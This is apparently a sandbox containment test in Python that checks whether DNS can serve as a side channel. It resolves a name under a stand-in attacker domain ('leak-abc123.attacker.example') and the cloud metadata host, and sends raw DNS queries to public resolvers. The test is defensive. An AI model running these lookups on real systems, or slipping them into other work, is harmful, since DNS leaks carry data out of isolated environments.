# expect: contained
# DNS as a side channel: name lookups, and raw UDP to public resolvers.
import errno
import socket
import time

t = time.time()
for name in ["example.com", "leak-abc123.attacker.example", "metadata.google.internal"]:
    try:
        print(name, socket.getaddrinfo(name, 80))
        print("ESCAPED: resolved", name)
    except socket.gaierror as e:
        print(name, "gaierror", e)
for server in ["8.8.8.8", "1.1.1.1", "[::1]"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01",
                 (server.strip("[]"), 53))
        print(server, "reply", s.recvfrom(512))
    except OSError as e:
        print(server, errno.errorcode.get(e.errno, e))
print("took %.1fs" % (time.time() - t))
